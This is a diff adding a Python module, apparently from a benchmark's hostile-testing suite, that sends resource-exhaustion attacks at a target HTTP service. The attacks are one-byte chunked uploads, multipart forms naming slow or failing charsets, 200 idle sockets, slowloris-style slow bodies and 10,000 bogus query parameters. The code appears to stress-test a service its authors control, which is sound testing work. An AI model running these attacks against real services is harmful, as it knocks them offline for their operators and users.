@@ -1,0 +1,102 @@
+"""Attacks by the way in which requests are sent, whatever is in them."""
+
+from __future__ import annotations
+
+import asyncio
+import time
+from contextlib import AsyncExitStack, suppress
+
+from bench.hostile.pictures_attacks import Report, told
+from bench.hostile.target import Target
+from bench.hostile.wire import Stream, WireAnswer, ask, connected, head
+
+RATE = 1_500_000  # bytes a second of the attack by chunks
+
+
+async def one_byte_chunks(target: Target, seconds: float, _: bytes) -> Report:
+    """Send bodies in chunks of one byte, 1.5 MB/s in all."""
+    part = b"1\r\nx\r\n" * 5000
+    sent, end = 0, time.monotonic() + seconds
+
+    async def client() -> None:
+        nonlocal sent
+        while time.monotonic() < end:
+            with suppress(OSError, TimeoutError):
+                async with connected(target.address) as (_, writer):
+                    writer.write(head("/segment", "chunked"))
+                    while time.monotonic() < end:
+                        writer.write(part)
+                        await asyncio.wait_for(writer.drain(), max(0.1, end - time.monotonic()))
+                        sent += len(part)
+                        await asyncio.sleep(4 * len(part) / RATE)
+            await asyncio.sleep(0.1)
+
+    await asyncio.gather(*(client() for _ in range(4)))
+    return f"{sent / 1e6:.1f} MB were taken"
+
+
+async def form_charset(target: Target, seconds: float, picture: bytes) -> Report:
+    """Send forms whose content types name codecs that are slow or always fail."""
+    answers, end = list[WireAnswer](), time.monotonic() + seconds
+    while time.monotonic() < end:
+        for charset in ("punycode", "undefined", "idna", "zlib_codec"):
+            field = b"a" * 500_000 + b"-" + b"z9" * 200_000
+            form = b""
+            for name, content in (("boxes", field), ('image"; filename="x', picture)):
+                form += (
+                    f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n'
+                    f"Content-Type: text/plain; charset={charset}\r\n\r\n"
+                ).encode()
+                form += content + b"\r\n"
+            kind = f"multipart/form-data; boundary=b; charset={charset}"
+            answers.append(await ask(target.address, "/segment", form + b"--b--\r\n", kind))
+    return told(answers)
+
+
+async def idle_sockets(target: Target, seconds: float, _: bytes) -> Report:
+    """Open 200 connections that send nothing. The service may have 64 files open."""
+    before = target.log.stat().st_size
+    opened = 0
+    async with AsyncExitStack() as stack:
+        for _attempt in range(200):
+            with suppress(OSError, TimeoutError):
+                await asyncio.wait_for(stack.enter_async_context(connected(target.address)), 2)
+                opened += 1
+        await asyncio.sleep(seconds)
+    return f"{opened} opened, log grew by {(target.log.stat().st_size - before) / 1e6:.1f} MB"
+
+
+async def slow_bodies(target: Target, seconds: float, _: bytes) -> Report:
+    """Let 110 connections send a part of a body of 24 MB, 9 MB of it, and then a byte now and then."""
+    end = time.monotonic() + seconds
+    held = 0
+
+    async def client(stream: Stream) -> None:
+        nonlocal held
+        _, writer = stream
+        with suppress(OSError, TimeoutError):
+            writer.write(head("/segment", 24_000_000))
+            for _ in range(9_000_000 >> 16):
+                writer.write(b"x" * (1 << 16))
+                await asyncio.wait_for(writer.drain(), max(0.1, end - time.monotonic()))
+                held += 1 << 16
+            while time.monotonic() < end:
+                writer.write(b"x")
+                await writer.drain()
+                await asyncio.sleep(1)
+
+    async with AsyncExitStack() as stack:
+        streams = [await stack.enter_async_context(connected(target.address)) for _ in range(110)]
+        await asyncio.gather(*(client(stream) for stream in streams))
+    return f"{held / 1e6:.0f} MB were taken"
+
+
+async def parameters(target: Target, seconds: float, picture: bytes) -> Report:
+    """Send 10,000 parameters that do not exist."""
+    letters = "abcdefghijklmnopqrstuv"
+    names = [a + b + c for a in letters for b in letters for c in letters][:10_000]
+    answers, end = list[WireAnswer](), time.monotonic() + seconds
+    while time.monotonic() < end:
+        answers.append(await ask(target.address, "/segment?" + "&".join(names), picture, "image/jpeg"))
+        await asyncio.sleep(0.1)
+    return told(answers) + f", largest answer {max(answer.size for answer in answers) / 1e3:.1f} kB"
